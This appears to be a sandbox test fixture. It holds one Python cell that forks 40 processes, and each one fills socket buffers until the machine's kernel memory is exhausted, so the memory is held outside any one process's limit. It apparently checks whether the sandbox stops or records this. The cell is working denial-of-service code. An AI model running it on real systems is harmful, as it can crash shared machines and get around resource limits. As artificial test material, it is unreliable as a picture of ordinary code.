"""Fills sockets until the machine has no memory left, which belongs to no process."""

CELLS = {
    "q1": """import os
import socket
import time

for _ in range(40):
    if not os.fork():
        try:
            kept = []
            while True:
                kept.append(socket.socketpair())
                kept[-1][0].setblocking(False)
                try:
                    while True:
                        kept[-1][0].send(bytes(60_000))
                except BlockingIOError:
                    pass
        except OSError:
            time.sleep(20)
time.sleep(20)
q1 = 12"""
}
GAIN = "not stopped"
EXPECT = {"q1": ("no evidence", "memory")}
LIMITS = {"memory": 1 << 30, "cell_seconds": 30.0}
